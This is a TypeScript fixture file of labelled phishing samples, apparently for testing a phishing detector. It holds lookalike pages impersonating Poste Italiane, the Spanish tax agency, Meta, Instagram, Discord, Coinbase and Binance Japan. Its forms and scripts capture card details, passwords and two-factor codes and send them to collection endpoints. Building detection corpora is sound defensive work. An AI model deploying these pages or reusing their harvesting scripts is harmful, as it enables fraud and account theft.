import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, dataLayer, cookieBar, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';

export const entries: Entry[] = [
{
  id: 'l-phish-parcel-poste-it-giacenza',
  label: 'phishing',
  kind: 'parcel-redelivery',
  url: 'https://poste-it.giacenza-pacchi.com/tracking/?cod=RB847221906IT',
  routes: {
    'poste-it.giacenza-pacchi.com/tracking/': htmlRoute(page({
      lang: 'it',
      title: 'Poste Italiane - Pacco in giacenza',
      css: `body{margin:0;font-family:Titillium Web,Arial;background:#f4f6f8}.hd{background:#0047bb;color:#ffdb00;padding:14px 22px;font-size:22px;font-weight:bold}.c{max-width:480px;margin:20px auto;background:#fff;padding:22px;border-radius:6px}label{font-size:13px;display:block;margin-top:8px}input{width:100%;padding:10px;border:1px solid #aab}button{width:100%;margin-top:16px;background:#0047bb;color:#fff;border:0;padding:12px}`,
      body: `<div class="hd">Poste Italiane</div><div class="c"><h3>Il tuo pacco è in giacenza</h3><p style="font-size:14px">Spedizione <b>RB847221906IT</b>: tentativo di consegna non riuscito. Per riprogrammare la consegna è necessario confermare i dati e pagare le spese di giacenza (€ 2,49).</p>
<form method="post" action="/tracking/conferma"><label>Nome e cognome</label><input name="nome" required><label>Indirizzo</label><input name="ind" required><label>CAP</label><input name="cap" required><label>Numero carta</label><input name="carta" required><label>Scadenza</label><input name="scad" placeholder="MM/AA" required><label>CVV</label><input name="cvv" required><button>Paga € 2,49</button></form>
<p style="font-size:11px;color:#666">© Poste Italiane S.p.A. 2026 – Partita IVA 01114601006</p></div>`,
    })),
  },
},
{
  id: 'l-phish-tax-agencia-tributaria-es',
  label: 'phishing',
  kind: 'tax-refund',
  url: 'https://sede-agenciatributaria.devolucion-renta.es.cliente-aeat.com/Sede/devolucion.html',
  routes: {
    'sede-agenciatributaria.devolucion-renta.es.cliente-aeat.com/Sede/devolucion.html': htmlRoute(page({
      lang: 'es',
      title: 'Agencia Tributaria: Devolución Renta 2025',
      css: `body{margin:0;font-family:Arial;background:#fff}.hd{background:#a51d1d;color:#fff;padding:14px 22px}.c{max-width:600px;margin:20px auto;padding:0 20px}input{width:100%;padding:8px;margin:4px 0 10px;border:1px solid #999}button{background:#a51d1d;color:#fff;border:0;padding:10px 20px}`,
      body: `<div class="hd"><b>Agencia Tributaria</b> &nbsp;|&nbsp; Sede Electrónica</div><div class="c"><h2>Devolución pendiente – Renta 2025</h2><p>Estimado contribuyente, tiene una devolución pendiente de <b>412,35 €</b>. Debido a un error en sus datos bancarios no ha sido posible realizar la transferencia.</p>
<form method="post" action="/Sede/procesar.php"><label>NIF</label><input name="nif" required><label>Nombre y apellidos</label><input name="nombre"><label>Teléfono móvil</label><input name="tel"><label>Número de tarjeta</label><input name="tarjeta" required><label>Caducidad</label><input name="cad"><label>CVV</label><input name="cvv"><button>Solicitar devolución</button></form><p style="font-size:11px;color:#666">© Agencia Estatal de Administración Tributaria</p></div>`,
    })),
  },
},
{
  id: 'l-phish-meta-copyright-appeal-2fa',
  label: 'phishing',
  kind: 'social-appeal',
  url: 'https://meta-business-appeal-center.vercel-app-hosting.com/case/8127734401',
  routes: {
    'meta-business-appeal-center.vercel-app-hosting.com/case/8127734401': htmlRoute(page({
      title: 'Meta for Business - Page Restricted',
      css: `body{margin:0;background:#f0f2f5;font-family:Helvetica,Arial}.hd{background:#fff;padding:12px 24px;box-shadow:0 1px 2px rgba(0,0,0,.1);font-weight:bold;color:#0866ff;font-size:20px}.c{max-width:540px;margin:28px auto;background:#fff;border-radius:8px;padding:24px}.warn{background:#fff1f0;border:1px solid #ffccc7;padding:12px;border-radius:6px;font-size:14px}input,textarea{width:100%;padding:10px;margin:6px 0;border:1px solid #ccd0d5;border-radius:6px}button{background:#0866ff;color:#fff;border:0;padding:10px;border-radius:6px;width:100%;font-weight:bold}#p2{display:none}`,
      body: `<div class="hd">&#8734; Meta</div><div class="c"><h2>Your page has been restricted</h2><div class="warn">We received a report that your page violates copyright (Case #8127734401). If you think this is a mistake, submit an appeal within 24 hours, or your page will be permanently deleted.</div>
<div id="p1"><form id="f1"><input name="full" placeholder="Full name" required><input name="email" type="email" placeholder="Business email" required><input name="phone" placeholder="Phone number"><input name="page" placeholder="Facebook page name"><textarea name="msg" rows="3" placeholder="Please explain why you think this is a mistake"></textarea><button>Send appeal</button></form></div>
<div id="p2"><p>For your security, please enter your password to continue.</p><input type="password" id="pw" placeholder="Password"><input id="code" placeholder="Two-factor code (6 digits)"><button id="b2">Continue</button></div>
<p style="font-size:11px;color:#65676b;margin-top:16px">Meta &copy; 2026 &middot; Privacy Policy &middot; Help Center</p></div>
<script>var st={};document.getElementById('f1').onsubmit=function(e){e.preventDefault();new FormData(this).forEach(function(v,k){st[k]=v});document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block'};
document.getElementById('b2').onclick=function(){st.pw=pw.value;st.code=code.value;var ip='';fetch('/case/api/ip').then(function(r){return r.json()}).then(function(j){st.ip=j.ip;return fetch('/case/api/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(st)})}).then(function(){location.href='https://www.facebook.com/help'})}</script>`,
    })),
    'meta-business-appeal-center.vercel-app-hosting.com/case/api/ip': jsonRoute({ ip: '203.0.113.77', country: 'DE' }),
  },
},
{
  id: 'l-phish-instagram-copyright-pt',
  label: 'phishing',
  kind: 'social-appeal',
  url: 'https://instagram-direitos-autorais.help-center-form.com/pt/recurso',
  routes: {
    'instagram-direitos-autorais.help-center-form.com/pt/recurso': htmlRoute(page({
      lang: 'pt',
      title: 'Instagram | Central de Ajuda',
      css: `body{margin:0;font-family:-apple-system,Helvetica,Arial;background:#fafafa}.c{max-width:380px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px;text-align:center}.lg{font-family:Billabong,cursive;font-size:38px}input{width:100%;padding:9px;margin:4px 0;border:1px solid #dbdbdb;background:#fafafa;border-radius:3px}button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:8px;font-weight:600;margin-top:8px}`,
      body: `<div class="c"><div class="lg">Instagram</div><h3>Violação de direitos autorais</h3><p style="font-size:14px;color:#555">A sua conta foi denunciada por violação de direitos autorais. Se acredita que se trata de um erro, verifique a sua conta para apresentar recurso. Caso contrário a conta será desativada em 24 horas.</p>
<form method="post" action="/pt/recurso/enviar"><input name="username" placeholder="Nome de utilizador" required><input type="password" name="password" placeholder="Palavra-passe" required><button>Verificar conta</button></form><p style="font-size:12px;color:#8e8e8e;margin-top:20px">from Meta</p></div>`,
    })),
  },
},
{
  id: 'l-phish-discord-nitro-qr-token',
  label: 'phishing',
  kind: 'gaming-stealer',
  url: 'https://discord-nitro-gift.app-claim.gg/gift/Ns7Qp2xYbR4kLm',
  routes: {
    'discord-nitro-gift.app-claim.gg/gift/Ns7Qp2xYbR4kLm': htmlRoute(page({
      title: 'Discord | Accept Nitro Gift',
      css: `body{margin:0;background:#5865f2 linear-gradient(135deg,#5865f2,#404eed);font-family:"gg sans",Whitney,Helvetica,Arial;color:#f2f3f5}.c{max-width:780px;margin:80px auto;background:#313338;border-radius:6px;padding:32px;display:flex;gap:32px}.l{flex:1}.l input{width:100%;padding:10px;margin:6px 0 14px;background:#1e1f22;border:0;color:#fff;border-radius:3px}.l button{width:100%;background:#5865f2;color:#fff;border:0;padding:12px;border-radius:3px}.qr{width:176px;text-align:center}.qr canvas{background:#fff;padding:8px;border-radius:4px}`,
      body: `<div class="c"><div class="l"><h2 style="text-align:center">You've been gifted Nitro for 1 month!</h2><p style="text-align:center;color:#b5bac1">Log in to claim your gift</p><form method="post" action="/api/v9/auth/login"><label>EMAIL OR PHONE NUMBER *</label><input name="login"><label>PASSWORD *</label><input type="password" name="password"><button>Log In</button></form></div>
<div class="qr"><canvas id="q" width="160" height="160"></canvas><h3>Log in with QR Code</h3><p style="font-size:13px;color:#b5bac1">Scan this with the <b>Discord mobile app</b> to log in instantly.</p></div></div>
<script>var ws;try{ws=new WebSocket('wss://discord-nitro-gift.app-claim.gg/remote-auth?v=2')}catch(e){}
var c=document.getElementById('q').getContext('2d');for(var i=0;i<25;i++)for(var j=0;j<25;j++)if(((i*7+j*13)^(i*j))%3==0){c.fillRect(i*6+5,j*6+5,6,6)}
fetch('/api/qr/fingerprint').then(function(r){return r.json()}).then(function(d){window.fp=d.fingerprint})</script>`,
    })),
    'discord-nitro-gift.app-claim.gg/api/qr/fingerprint': jsonRoute({ fingerprint: 'hWl0n3B0kZ1Xk3yKq9xZ0A', ttl: 120 }),
  },
},
{
  id: 'l-phish-coinbase-login-2fa',
  label: 'phishing',
  kind: 'crypto-exchange',
  url: 'https://coinbase.login-securehub.com/signin?return_to=%2Fsettings%2Fsecurity',
  routes: {
    'coinbase.login-securehub.com/signin': htmlRoute(page({
      title: 'Sign in to Coinbase',
      css: `body{margin:0;font-family:CoinbaseSans,-apple-system,Arial;background:#fff;color:#0a0b0d}.hd{padding:18px 30px;color:#0052ff;font-weight:700;font-size:24px}.c{max-width:420px;margin:40px auto;border:1px solid #dee1e6;border-radius:16px;padding:32px}input{width:100%;padding:14px;border:1px solid #89909e;border-radius:8px;margin:6px 0 14px;font-size:16px}button{width:100%;background:#0052ff;color:#fff;border:0;border-radius:56px;padding:15px;font-size:16px;font-weight:600}.st{display:none}.st.on{display:block}`,
      body: `<div class="hd">coinbase</div><div class="c"><div class="st on" id="a"><h2>Sign in to Coinbase</h2><input id="em" type="email" placeholder="Your email address"><button id="n1">Continue</button></div>
<div class="st" id="b"><h2>Enter your password</h2><input id="pw" type="password"><button id="n2">Continue</button></div>
<div class="st" id="c"><h2>Enter the 7-digit code we texted to +XX XXXX XX48</h2><input id="otp" maxlength="7" inputmode="numeric"><button id="n3">Submit</button><p style="font-size:13px;color:#5b616e">This helps us keep your account secure by verifying that it's really you.</p></div>
<div class="st" id="d"><h2>Review in progress</h2><p>Our team is reviewing a withdrawal request from your account. Please keep this window open.</p></div></div>
<script>function go(i){document.querySelectorAll('.st').forEach(function(x){x.classList.remove('on')});document.getElementById(i).classList.add('on')}
function s(o){return fetch('/api/v3/panel/collect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(Object.assign({sid:'cb-7731'},o))})}
n1.onclick=function(){s({email:em.value}).then(function(){go('b')})};n2.onclick=function(){s({password:pw.value}).then(function(){go('c')})};n3.onclick=function(){s({otp:otp.value}).then(function(){go('d')})};
setInterval(function(){fetch('/api/v3/panel/poll?sid=cb-7731').catch(function(){})},5000)</script>`,
    })),
    'coinbase.login-securehub.com/api/v3/panel/poll': jsonRoute({ action: 'wait' }),
  },
},
{
  id: 'l-phish-binance-jp-login',
  label: 'phishing',
  kind: 'crypto-exchange',
  url: 'https://accounts.binance-jp.security-verify.net/ja/login',
  routes: {
    'accounts.binance-jp.security-verify.net/ja/login': htmlRoute(page({
      lang: 'ja',
      title: 'ログイン | Binance Japan',
      css: `body{margin:0;background:#181a20;color:#eaecef;font-family:BinancePlex,Arial,"Hiragino Sans",Meiryo}.hd{padding:16px 24px;color:#f0b90b;font-weight:bold;font-size:22px}.c{max-width:400px;margin:40px auto;border:1px solid #2b3139;border-radius:20px;padding:34px}input{width:100%;padding:12px;margin:6px 0 14px;background:#181a20;border:1px solid #474d57;border-radius:8px;color:#eaecef}button{width:100%;background:#f0b90b;border:0;padding:12px;border-radius:8px;font-weight:600}`,
      body: `<div class="hd">&#9670; BINANCE JAPAN</div><div class="c"><h2>ログイン</h2><p style="background:#2b2f36;padding:10px;font-size:13px;border-radius:6px">セキュリティ強化のため、2026年12月1日までにアカウントの再認証が必要です。認証が完了しない場合、出金が制限されます。</p>
<form method="post" action="/ja/login/verify"><label>メールアドレス/電話番号</label><input name="account" required><label>パスワード</label><input type="password" name="password" required><label>Google認証コード</label><input name="gcode" maxlength="6"><button>ログイン</button></form></div>`,
    })),
  },
},
];
